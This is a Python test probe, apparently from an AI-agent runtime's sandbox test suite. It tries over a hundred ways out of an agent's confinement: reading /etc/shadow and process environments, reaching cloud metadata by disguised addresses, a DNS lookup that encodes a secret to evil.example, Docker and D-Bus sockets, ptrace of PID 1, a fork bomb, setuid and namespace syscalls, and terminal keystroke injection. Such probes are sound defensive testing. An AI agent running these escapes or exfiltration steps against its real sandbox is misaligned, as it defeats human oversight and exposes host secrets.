"""What an agent may try to get out of where it is locked in; prints one line per attempt."""

import ctypes
import errno
import fcntl
import json
import os
import resource
import signal
import socket
import subprocess
import sys
import time
from pathlib import Path

from network import (
    asks,
    connects,
    controls,
    fetches,
    hello,
    opens,
    relays,
    requests,
    resolves,
    says,
    sends,
    tunnels,
)

libc = ctypes.CDLL(None, use_errno=True)


def call(number, *arguments):
    """Make a system call by its number on x86_64."""
    libc.syscall.restype = ctypes.c_long
    wide = [ctypes.c_long(one) if isinstance(one, int) else one for one in arguments]
    if libc.syscall(ctypes.c_long(number), *wide) == -1:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))


def reads(path):
    """Read a file."""
    return lambda: Path(path).open("rb").close()


def writes(path, flags=0):
    """Open a file for writing."""

    def attempt():
        os.close(os.open(path, os.O_WRONLY | flags))

    return attempt


def fills(path, mebibytes=256):
    """Write more than there should be room for."""

    def attempt():
        with Path(path).open("wb", buffering=0) as file:
            for _ in range(mebibytes):
                file.write(bytes(1 << 20))

    return attempt


def bursts():
    """Make children until there may be no more."""
    children = []
    try:
        for _ in range(500):
            child = os.fork()
            if child == 0:
                time.sleep(1000)
                os._exit(0)
            children.append(child)
    finally:
        for child in children:
            os.kill(child, signal.SIGKILL)
            os.waitpid(child, 0)


def dies(program):
    """Run a piece of Python in a child; complain of how it ends."""

    def attempt():
        command = [sys.executable, "-c", program]
        done = subprocess.run(command, capture_output=True, timeout=30, check=False)
        raise ValueError(f"ended with {done.returncode}")

    return attempt


def gains(*command):
    """Run a program that is set-uid root; complain unless it stays who we are."""

    def attempt():
        done = subprocess.run(command, capture_output=True, timeout=10, text=True, check=False)
        if done.returncode == 0 and "uid=0" in done.stdout:
            return
        raise ValueError("no gain")

    return attempt


def reads_memory():
    """Read memory of the first process."""
    buffer = ctypes.create_string_buffer(64)
    place = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 64)
    call(310, 1, place, 1, place, 1, 0)


def takes_a_descriptor():
    """Take a descriptor of the first process."""
    libc.syscall.restype = ctypes.c_long
    held = libc.syscall(ctypes.c_long(434), ctypes.c_long(1), ctypes.c_long(0))
    if held == -1:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    try:
        call(438, held, 0, 0)
    finally:
        os.close(held)


def clones_users():
    """Make a child in a user namespace of its own."""
    libc.syscall.restype = ctypes.c_long
    child = libc.syscall(*map(ctypes.c_long, (56, 0x10000000 | signal.SIGCHLD, 0, 0, 0, 0)))
    if child == 0:
        os._exit(0)
    if child == -1:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    os.waitpid(child, 0)


def types_for_others():
    """Put a letter into the input of a terminal."""
    leader, follower = os.openpty()
    try:
        fcntl.ioctl(follower, 0x5412, b"x")
    finally:
        os.close(leader)
        os.close(follower)


def signals_everybody():
    """Signal every process that is seen; complain if one that is not ours may be signalled."""
    seen = {int(one.name) for one in Path("/proc").iterdir() if one.name.isdigit()}
    refused = None
    for pid in seen - {os.getpid(), 1}:
        try:
            os.kill(pid, 0)
        except ProcessLookupError:
            continue
        except PermissionError as error:
            refused = error
        else:
            raise ValueError("it may signal others")
    if refused:
        raise refused


def many(make):
    """Make descriptors until there may be no more."""

    def attempt():
        held = []
        try:
            for _ in range(5000):
                held.append(make())
        finally:
            for one in held:
                os.close(one)

    return attempt


def watches():
    """Make an instance of inotify."""
    made = libc.inotify_init1(0)
    if made == -1:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    return made


def is_closed_to_set_uid():
    """Complain of a file system in which files make somebody else of who executes them."""
    if not os.statvfs("/usr").f_flag & os.ST_NOSUID:
        raise ValueError("set-uid files count")


def tells(path):
    """Complain of a file that tells nothing, or is none."""

    def attempt():
        if not Path(path).read_bytes():
            raise ValueError("empty")

    return attempt


def lists(path):
    """Read a directory."""
    return lambda: list(Path(path).iterdir())


def types(request):
    """Ask the terminal that standard input may be for a forged letter."""
    return lambda: fcntl.ioctl(0, request, b"x")


def lowers_its_score():
    """Make itself a worse victim than others."""
    with Path("/proc/self/oom_score_adj").open("wb", buffering=0) as file:
        file.write(b"-500")


def is_alone():
    """Complain of processes that are not of this container."""
    seen = [one.name for one in Path("/proc").iterdir() if one.name.isdigit()]
    if len(seen) > 2:
        raise ValueError("it sees others")


def has_only_standard_streams():
    """Complain of descriptors that were handed down."""
    extra = []
    for name in [one.name for one in Path("/proc/self/fd").iterdir()]:
        try:
            os.fstat(int(name))
        except OSError:
            continue
        if int(name) > 2:
            extra.append(name)
    if extra:
        raise ValueError(f"descriptors {extra}")


def has_no_foreign_variables():
    """Complain of variables of the supervisor."""
    everything = "".join(f"{name}={value}" for name, value in os.environ.items())
    for number in (1, os.getppid(), os.getpid()):
        try:
            with Path(f"/proc/{number}/environ").open(errors="replace") as file:
                everything += file.read()
        except OSError:
            pass
    if "CLAW_CANARY" in everything:
        raise ValueError("it has variables of the supervisor")


def is_nobody_special():
    """Complain of any privilege."""
    with Path("/proc/self/status").open() as file:
        status = dict(line.rstrip("\n").split(":\t", 1) for line in file if ":\t" in line)
    # Who is not root cannot empty the bounding set outside of namespaces, and gains nothing by it.
    ordinary = PLACE["user"]
    sets = ("CapInh", "CapPrm", "CapEff", "CapAmb") + (() if ordinary else ("CapBnd",))
    found = [status[name] for name in sets]
    if set(found) != {"0" * 16} or status["NoNewPrivs"] != "1" or status["Seccomp"] != "2":
        raise ValueError(f"{found}, {status['NoNewPrivs']}, {status['Seccomp']}")
    # Where there are no namespaces, each agent has one of many users.
    own = os.getuid() == 1000 or 200000 <= os.getuid() <= 265535 or os.getuid() == ordinary
    if not own or set(os.getgroups()) - {1000, os.getgid()}:
        raise ValueError(f"user {os.getuid()}, groups {os.getgroups()}")
    if resource.getrlimit(resource.RLIMIT_CORE) != (0, 0):
        raise ValueError("it may dump core")


PLACE = json.loads(sys.argv[1])
FOREIGN, PORT, HOME = PLACE["foreign"], PLACE["port"], PLACE["home"]
ABSTRACT = "\0" + PLACE["abstract"]
SUPERVISOR, NEIGHBOUR = PLACE["supervisor"], PLACE["neighbour"]
# Where agents have users of their own, a directory more keeps others out.
OWN = "api" if PLACE["user"] else "sandbox/api"
NEIGHBOURS = f"{HOME}/.openclaw/agents/neighbour/{OWN}/agent.sock"
# Where a group of one's own would be, with either version.
ROOT = Path("/sys/fs/cgroup/memory")
GROUPS = str(ROOT if ROOT.exists() else ROOT.parent) + "/mine"
# A host that the fleet file may allow, whose name leads to this machine.
ALLOWED = f"localhost:{PORT}"
ATTEMPTS = [
    (1, "shadow", reads("/etc/shadow")),
    (1, "home of root", lists("/root")),
    (1, "file of the host", reads(PLACE["secret"])),
    (1, "state of another agent", reads(f"{HOME}/.openclaw/store.db")),
    (2, "fleet file", reads(f"{HOME}/openclaw.yaml")),
    (2, "journal", reads(f"{HOME}/.openclaw/journal.db")),
    (2, "data directory", lists(f"{HOME}/.openclaw")),
    (3, "environment of a host's process", reads(f"/proc/{FOREIGN}/environ")),
    (3, "environment of the first process", reads("/proc/1/environ")),
    (4, "foreign processes", is_alone),
    (5, "inherited descriptors", has_only_standard_streams),
    (6, "inherited environment", has_no_foreign_variables),
    (7, "identity and capabilities", is_nobody_special),
    (8, "metadata address", fetches("169.254.169.254")),
    (8, "metadata by tunnel", tunnels("169.254.169.254:80")),
    (8, "metadata in decimal", tunnels("2852039166:80")),
    (8, "metadata in hexadecimal", tunnels("0xa9fea9fe:80")),
    (8, "metadata mapped to IPv6", tunnels("[::ffff:169.254.169.254]:80")),
    (8, "metadata by name", tunnels("metadata.google.internal:80")),
    (8, "metadata by an allowed name", tunnels("metadata.test:80")),
    (9, "name of an open network", tunnels("turning.test:443")),
    (9, "the same name, turned", tunnels("turning.test:443")),
    (9, "public and private at once", tunnels("mixed.test:443")),
    (10, "private address by an allowed name", tunnels(ALLOWED)),
    (11, "loopback of the host", connects(socket.AF_INET, ("127.0.0.1", PORT))),
    (11, "loopback of the host by tunnel", tunnels(f"127.0.0.1:{PORT}")),
    (12, "address on the internet", connects(socket.AF_INET, ("192.0.2.1", 444))),
    (13, "resolver on the internet", connects(socket.AF_INET, ("192.0.2.1", 53))),
    (13, "name that is not allowed", sends(("192.0.2.1", 53))),
    (13, "lookup", resolves("c2VjcmV0.evil.example")),
    (14, "the listed host", says("listed.test", lambda: hello("listed.test"))),
    (14, "another host", says("listed.test", lambda: hello("other.test"))),
    (14, "no host", says("listed.test", lambda: hello(None))),
    (14, "no TLS", says("listed.test", lambda: b"GET / HTTP/1.1\r\nHost: other.test\r\n\r\n")),
    (15, "user in a tunnel", tunnels(f"{ALLOWED}@{ALLOWED}")),
    (15, "port 0", tunnels("localhost:0")),
    (15, "two hosts", asks("GET http://a.example/ HTTP/1.1\r\nHost: a.example\r\nHost: b\r\n\r\n")),
    (15, "another host", asks("GET http://a.example/ HTTP/1.1\r\nHost: b.example\r\n\r\n")),
    (15, "folded line", asks("CONNECT a:443\rb HTTP/1.1\r\nHost: a\r\n\r\n")),
    (16, "relay inside", relays("evil.test:443")),
    (16, "relay inside to a private address", relays("10.0.0.1:443")),
    (17, "server of another agent", connects(socket.AF_INET, ("127.0.0.1", NEIGHBOUR))),
    (17, "host of another agent", tunnels("neighbours.test:443")),
    (17, "socket of another agent", connects(socket.AF_UNIX, NEIGHBOURS)),
    (17, "state of another agent", requests("GET", "/v1/agents/neighbour/state")),
    (17, "own state", requests("GET", "/v1/state")),
    (18, "abstract socket of the host", connects(socket.AF_UNIX, ABSTRACT)),
    (19, "socket in a directory of the host", connects(socket.AF_UNIX, f"{HOME}/planted.sock")),
    (20, "socket of the engine", connects(socket.AF_UNIX, "/var/run/docker.sock")),
    (20, "socket of containerd", connects(socket.AF_UNIX, "/run/containerd/containerd.sock")),
    (20, "D-Bus", connects(socket.AF_UNIX, "/run/dbus/system_bus_socket")),
    (21, "control socket", controls(f"{HOME}/.openclaw/control.sock")),
    (22, "AF_VSOCK", opens(40)),
    (22, "AF_PACKET", opens(17, socket.SOCK_RAW)),
    (22, "AF_ALG", opens(38, socket.SOCK_SEQPACKET)),
    (22, "raw socket", opens(socket.AF_INET, socket.SOCK_RAW, 1)),
    (22, "MPTCP", opens(socket.AF_INET, socket.SOCK_STREAM, 262)),
    (22, "netlink for audit", opens(16, socket.SOCK_RAW, 9)),
    (22, "netlink for routes", opens(16, socket.SOCK_RAW, 0)),
    (23, "ptrace of the first process", lambda: call(101, 16, 1, 0, 0)),
    (23, "memory of the first process", reads_memory),
    (23, "descriptor of the first process", takes_a_descriptor),
    (24, "signal to a host's process", lambda: os.kill(FOREIGN, 0)),
    (24, "signal to everybody", signals_everybody),
    (24, "signal to the supervisor", lambda: os.kill(SUPERVISOR, 0)),
    (25, "fork bomb", bursts),
    (27, "nice of -20", lambda: os.setpriority(os.PRIO_PROCESS, 0, -20)),
    (27, "real-time class", lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1))),
    (28, "system's files", writes("/usr/bin/new", os.O_CREAT)),
    (28, "root directory", writes("/new", os.O_CREAT)),
    (28, "configuration of the system", writes("/etc/new", os.O_CREAT)),
    (28, "filling /tmp", fills("/tmp/full")),
    (28, "filling /dev/shm", fills("/dev/shm/full")),
    (28, "filling a directory of the host", fills(f"{HOME}/sized/full", 32)),
    (30, "many descriptors", many(lambda: os.open("/dev/null", os.O_RDONLY))),
    (30, "many watches", many(watches)),
    (31, "io_uring_setup", lambda: call(425, 8, ctypes.create_string_buffer(256))),
    (31, "bpf", lambda: call(321, 0, ctypes.create_string_buffer(256), 72)),
    (31, "userfaultfd", lambda: call(323, 0)),
    (31, "add_key", lambda: call(248, b"user", b"x", b"x", 1, -2)),
    (31, "keyctl", lambda: call(250, 0, -3, 1)),
    (31, "perf_event_open", lambda: call(298, ctypes.create_string_buffer(128), 0, -1, -1, 0)),
    (32, "unshare of users", lambda: call(272, 0x10000000)),
    (32, "clone of users", clones_users),
    (32, "mount", lambda: call(165, b"none", b"/tmp", b"tmpfs", 0, None)),
    (32, "fsopen", lambda: call(430, b"tmpfs", 0)),
    (32, "open_tree", lambda: call(428, -100, b"/", 1)),
    (32, "pivot_root", lambda: call(155, b"/tmp", b"/tmp")),
    (32, "chroot", lambda: os.chroot("/tmp")),
    (32, "setns", lambda: call(308, os.open("/proc/self/ns/net", os.O_RDONLY), 0)),
    (33, "file system of set-uid files", is_closed_to_set_uid),
    (33, "set-uid root", gains("/usr/bin/su", "-c", "id")),
    (33, "user 0", lambda: os.setuid(0)),
    (34, "terminal", reads("/dev/tty")),
    (34, "typing for others", types_for_others),
    (34, "letters of the terminal", types(0x5412)),
    (34, "letters of the console", types(0x541C)),
    (35, "core_pattern", writes("/proc/sys/kernel/core_pattern")),
    (35, "sysrq", writes("/proc/sysrq-trigger")),
    (35, "command line of the kernel", tells("/proc/cmdline")),
    (35, "keys of the kernel", tells("/proc/keys")),
    (36, "cgroup", lambda: Path(GROUPS).mkdir()),
    (36, "own score", lowers_its_score),
    (36, "hard limits", lambda: resource.setrlimit(resource.RLIMIT_NOFILE, (9999, 9999))),
    (36, "cgroup namespace", lambda: call(272, 0x02000000)),
    (37, "init's executable", writes("/proc/1/exe")),
    (40, "mknod", lambda: os.mknod("/tmp/disk", 0o60600, os.makedev(8, 0))),
    (40, "name_to_handle_at", lambda: call(303, -100, b"/", bytes(160), bytes(8), 0)),
    (40, "open_by_handle_at", lambda: call(304, -100, ctypes.create_string_buffer(64), 0)),
    (42, "call of x32", dies("import ctypes; ctypes.CDLL(None).syscall(0x40000027)")),
    (44, "clock", lambda: call(227, 0, ctypes.create_string_buffer(16))),
]

for row, what, attempt in ATTEMPTS:
    try:
        attempt()
        outcome = "allowed"
    except OSError as error:
        outcome = errno.errorcode.get(error.errno or 0, repr(error))
    except (ValueError, subprocess.SubprocessError) as error:
        outcome = str(error)
    print(f"row {row} {what}: {outcome}", flush=True)
if "calls" in PLACE:
    subprocess.run([PLACE["calls"]], check=False)
print("done", flush=True)
